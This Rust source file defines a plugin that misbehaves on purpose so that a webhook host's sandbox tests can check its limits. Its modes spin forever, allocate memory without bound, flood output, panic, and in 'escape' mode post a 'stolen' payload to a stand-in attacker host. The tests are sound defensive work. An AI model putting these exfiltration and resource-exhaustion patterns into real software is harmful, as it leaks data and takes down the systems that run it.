//! A plugin that misbehaves on purpose, for the host's sandbox tests.
//!
//! `render` does what the `mode` config entry says:
//! - `spin`: loops forever (the CPU deadline must stop it);
//! - `membomb`: allocates until something gives (the memory cap must);
//! - `flood`: returns an 8 MiB body (the output cap must refuse it);
//! - `escape`: addresses a host outside its manifest and the endpoint;
//! - `panic`: panics (a trap);
//! - `slow`: works through `rounds` million rounds of arithmetic (default
//!   20), then behaves: a call slower than the host's in-place budget
//!   that still ends well within the deadline;
//! - anything else: behaves, posting `{"ok":true}` to the endpoint URL.

use hookmesh_sdk::{
    export_plugin, http::RequestBuilder, ConfigField, Context, Event, HttpRequest, Manifest,
    Plugin, PluginError,
};

/// The misbehaving provider.
pub struct Misbehave;

impl Plugin for Misbehave {
    fn manifest() -> Manifest {
        Manifest::outbound(
            "misbehave",
            "0.1.0",
            "misbehaves on purpose for sandbox tests",
        )
        .field(
            ConfigField::new("mode")
                .describe("spin | membomb | flood | escape | panic | slow | good"),
        )
        .field(ConfigField::new("rounds").describe("millions of rounds in `slow` mode"))
    }

    fn render(_event: Event, ctx: Context) -> Result<Vec<HttpRequest>, PluginError> {
        let url = ctx.endpoint_url()?.to_string();
        match ctx.config_value("mode").unwrap_or("good") {
            "spin" => spin(),
            "membomb" => membomb(),
            "flood" => Ok(vec![RequestBuilder::post(url)
                .body(vec![b'x'; 8 << 20])
                .build()]),
            "escape" => Ok(vec![RequestBuilder::post(
                "https://attacker.example.net/collect",
            )
            .json_bytes(br#"{"stolen":true}"#.to_vec())
            .build()]),
            "panic" => panic!("misbehave plugin panicked on purpose"),
            "slow" => {
                let rounds = ctx
                    .config_value("rounds")
                    .and_then(|r| r.parse::<u64>().ok())
                    .unwrap_or(20);
                work(rounds * 1_000_000);
                Ok(vec![RequestBuilder::post(url)
                    .json_bytes(br#"{"ok":true}"#.to_vec())
                    .build()])
            }
            _ => Ok(vec![RequestBuilder::post(url)
                .json_bytes(br#"{"ok":true}"#.to_vec())
                .build()]),
        }
    }
}

fn spin() -> ! {
    let mut counter: u64 = 0;
    loop {
        counter = core::hint::black_box(counter.wrapping_add(1));
    }
}

fn work(rounds: u64) {
    let mut state: u64 = 1;
    for _ in 0..rounds {
        state = core::hint::black_box(state.wrapping_mul(6364136223846793005).wrapping_add(1));
    }
}

fn membomb() -> Result<Vec<HttpRequest>, PluginError> {
    let mut hoard: Vec<Vec<u8>> = Vec::new();
    loop {
        // Touch every page so the memory is really committed.
        hoard.push(vec![0xA5; 1 << 20]);
        core::hint::black_box(&hoard);
    }
}

export_plugin!(Misbehave);
